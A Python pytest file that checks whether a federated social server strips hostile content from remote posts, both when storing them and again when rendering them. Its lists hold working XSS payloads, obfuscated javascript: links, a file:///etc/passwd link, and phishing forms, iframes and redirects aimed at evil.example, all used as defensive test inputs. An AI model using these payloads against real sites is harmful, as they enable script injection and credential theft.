"""What strangers write, sent to the inbox and opened as a page: words remain, and nothing that runs, loads, sends or misleads.

Twice: cleaned when it is stored, and cleaned again when it is shown, should it ever have got into the database some other way.
"""

import re

import pytest
from sqlalchemy import text

from fedirse.storage.transaction import Transaction
from fedirse.web.headers import POLICY
from tests.attacks.foreign import Foreigner
from tests.attacks.scene import Scene, to_alice
from tests.attacks.shown import look_at, prose_of

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<p onclick=alert(1) style='position:fixed' id=content>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    "<b/onmouseover=alert(1)//>x</b><a href='https://x.example/' ping='https://evil.example/'>x</a>",
]
SCHEMES = [
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript&colon;alert(1)",
    " \x01javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://us.example/x",
    "file:///etc/passwd",
    "tel:+33",
    "magnet:?xt=x",
    "//evil.example/x",
    "/posts/x/delete",
]
FRAMES = [
    "<form action=https://evil.example/><input name=password><button>ok</button></form>",
    "<input form=x formaction=https://evil.example/><select><option>x</select><textarea>x</textarea>",
    "<iframe src=https://evil.example/ srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
]


def stranger(scene: Scene, **changes: object) -> Foreigner:
    return scene.server("evil.example").person("eve", **changes)


async def stored(scene: Scene, by: Foreigner, content: str, **changes: object) -> tuple[str, str]:
    """A note of theirs through the inbox: its id here, and its content as it is stored."""
    note = to_alice(scene, by, content=content, **changes)
    await scene.accepts(by.send(by.create(note)))

    def find(tx: Transaction) -> tuple[str, str]:
        row = tx.execute(text("SELECT id, content FROM posts WHERE uri = :uri"), {"uri": note["id"]}).one()
        return row.id, row.content

    return await scene.site.read(find)


async def opened(scene: Scene, post_id: str) -> str:
    """What the page of a post shows of its text."""
    (prose,) = prose_of(await scene.page(f"/posts/{post_id}"))
    return prose


async def smuggle(scene: Scene, post_id: str, content: str) -> None:
    """Put a text into the database as it is, past everything that cleans."""

    def change(tx: Transaction) -> None:
        tx.execute(text("UPDATE posts SET content = :content WHERE id = :id"), {"id": post_id, "content": content})

    await scene.site.write(change)


@pytest.mark.attack("CNT-001")
async def test_scripts_are_gone_before_they_are_stored_and_again_before_they_are_shown(scene: Scene) -> None:
    eve = stranger(scene)
    for script in SCRIPTS:
        written = f"<p>avant</p>{script}"
        post_id, kept = await stored(scene, eve, written)
        assert "avant" in kept
        assert look_at(kept).harms() == [], script
        assert look_at(await opened(scene, post_id)).harms() == [], script
        await smuggle(scene, post_id, written)
        shown = await opened(scene, post_id)
        assert "avant" in shown
        assert look_at(shown).harms() == [], script


@pytest.mark.attack("CNT-001")
async def test_should_a_script_ever_stand_in_a_page_the_policy_lets_none_run(scene: Scene) -> None:
    post_id, _ = await stored(scene, stranger(scene), "<p>Bonjour</p>")
    answer = await scene.send(scene.friend.get(f"/posts/{post_id}").with_header("accept", "text/html"))
    assert (answer.status, answer.headers["content-security-policy"]) == (200, POLICY)
    assert answer.headers["content-type"].startswith("text/html")


@pytest.mark.attack("CNT-002")
async def test_a_link_is_one_only_where_it_leads_to_a_page_or_a_mailbox(scene: Scene) -> None:
    eve = stranger(scene)
    post_id, kept = await stored(scene, eve, "".join(f'<a href="{scheme}">là</a> ' for scheme in SCHEMES))
    assert [address for address, _ in look_at(kept).links] == [""] * len(SCHEMES)
    for content in (kept, "".join(f'<a href="{scheme}">là</a> ' for scheme in SCHEMES)):
        await smuggle(scene, post_id, content)
        links = look_at(await opened(scene, post_id)).links
        assert links == [("", "là")] * len(SCHEMES)


@pytest.mark.attack("CNT-002")
async def test_links_to_pages_and_mailboxes_stay(scene: Scene) -> None:
    honest = ["https://a.example/", "http://b.example/x?y=1", "mailto:a@c.example"]
    post_id, _ = await stored(scene, stranger(scene), "".join(f'<a href="{address}">là</a>' for address in honest))
    assert [address for address, _ in look_at(await opened(scene, post_id)).links] == honest


@pytest.mark.attack("CNT-010")
async def test_nothing_that_asks_frames_or_leads_away_by_itself_remains(scene: Scene) -> None:
    eve = stranger(scene)
    for frame in FRAMES:
        post_id, kept = await stored(scene, eve, f"<p>avant</p>{frame}")
        for content in (kept, f"<p>avant</p>{frame}"):
            await smuggle(scene, post_id, content)
            shown = look_at(await opened(scene, post_id))
            assert shown.words.startswith("avant")
            assert {name for name, _ in shown.tags} <= {"p"}, frame
    for directive in ("default-src 'none'", "form-action 'self'", "base-uri 'none'"):
        assert directive in POLICY


@pytest.mark.attack("CNT-013")
async def test_a_link_of_a_stranger_gets_our_relations_and_no_window(scene: Scene) -> None:
    eve = stranger(scene)
    for written in ('<a href="https://a.example/" target="_blank" rel="opener me">x</a>', '<a target=_top href="https://a.example/">x</a>'):
        post_id, kept = await stored(scene, eve, written)
        for content in (kept, written):
            await smuggle(scene, post_id, content)
            ((_, attributes),) = [tag for tag in look_at(await opened(scene, post_id)).tags if tag[0] == "a"]
            assert dict(attributes) == {"href": "https://a.example/", "rel": "nofollow noopener noreferrer ugc"}


@pytest.mark.attack("CNT-015")
async def test_the_syntax_of_templates_is_shown_as_it_was_typed(scene: Scene) -> None:
    syntax = "{{7*7}} ${7*7} #{7*7} {% raw %} {{ site }} %(name)s %s {0}"
    eve = stranger(scene, name=syntax, summary=f"<p>{syntax}</p>", attachment=[{"type": "PropertyValue", "name": syntax, "value": syntax}])
    post_id, _ = await stored(scene, eve, f"<p>{syntax}</p>", summary=syntax, tag=[{"type": "Hashtag", "name": syntax}])
    for path, times in ((f"/posts/{post_id}", 3), ("/@eve@evil.example", 5)):
        page = await scene.page(path)
        assert look_at(page).words.count(syntax) >= times
        assert "49" not in look_at(page).words


@pytest.mark.attack("CNT-008")
async def test_a_link_that_reads_like_another_host_shows_its_own(scene: Scene) -> None:
    eve = stranger(scene)
    for words in ("https://hq.example/login", "hq.example", "<b>hq</b>.example", "hq\u200b.example", "www.HQ.example:443/x"):
        post_id, _ = await stored(scene, eve, f'<a href="https://evil.example/login">{words}</a>')
        assert look_at(await opened(scene, post_id)).words.endswith(" (evil.example)")
    post_id, _ = await stored(scene, eve, '<a href="https://hq.example/login">https://hq.example/login</a>')
    assert "(" not in look_at(await opened(scene, post_id)).words


@pytest.mark.attack("CNT-024")
async def test_a_host_that_looks_like_a_sibling_is_shown_encoded(scene: Scene) -> None:
    post_id, _ = await stored(scene, stranger(scene), '<a href="https://s\u0456b.example/">s\u0456b.example</a>')
    assert look_at(await opened(scene, post_id)).words.endswith("(xn--sb-hoc.example)")
    twin = scene.server("xn--sb-hoc.example").person("hq", 1)
    await scene.accepts(twin.send(twin.create(to_alice(scene, twin))))
    page = await scene.page("/@hq@xn--sb-hoc.example")
    assert "@xn--sb-hoc.example" in look_at(page).words
    assert "\u0456" not in page


@pytest.mark.attack("CNT-025")
async def test_a_mention_of_nobody_shows_where_it_leads(scene: Scene) -> None:
    eve = stranger(scene)
    for classes in ('class="mention" ', 'class="u-url mention" ', ""):
        fake = f'<a {classes}href="https://evil.example/login">@hq</a>'
        post_id, _ = await stored(scene, eve, fake)
        assert look_at(await opened(scene, post_id)).words == "@hq (evil.example)"


@pytest.mark.attack("CNT-025")
async def test_a_mention_of_somebody_is_shown_as_one(scene: Scene) -> None:
    eve = stranger(scene)
    tag = {"type": "Mention", "href": eve.uri, "name": "@eve@evil.example"}
    post_id, _ = await stored(scene, eve, f'<a class="mention" href="{eve.uri}">@eve</a>', tag=[tag])
    assert look_at(await opened(scene, post_id)).words == "@eve"


@pytest.mark.attack("CNT-006")
async def test_a_preview_that_comes_with_a_post_or_is_behind_a_link_is_neither_shown_nor_fetched(scene: Scene) -> None:
    eve = stranger(scene)
    html = "<script>alert(1)</script><iframe src=https://evil.example/player></iframe>"
    card = {"type": "rich", "html": html, "title": html, "thumbnail_url": "https://evil.example/x.png", "url": "https://evil.example/"}
    changes = {
        "preview": {"type": "Note", "name": html, "content": html, "summary": html},
        "attachment": [{"type": "Page", "name": html, "content": html, "href": "https://evil.example/"}, {"type": "Link", **card}],
        "card": card,
        "oembed": card,
    }
    fetched = scene.fetched
    post_id, _ = await stored(scene, eve, '<p>Voir <a href="https://evil.example/player">ceci</a></p>', **changes)
    await scene.settle()
    for path in (f"/posts/{post_id}", "/@eve@evil.example"):
        body = (await scene.page(path)).partition("</head>")[2]
        assert not {name for name, _ in look_at(body).tags} & {"script", "iframe", "img", "video", "embed"}
        assert "alert(1)" not in re.sub(r"&lt;script&gt;alert\(1\)&lt;/script&gt;", "", body)
    assert [address for address in scene.fetched[len(fetched) :] if "/users/eve" not in address] == []
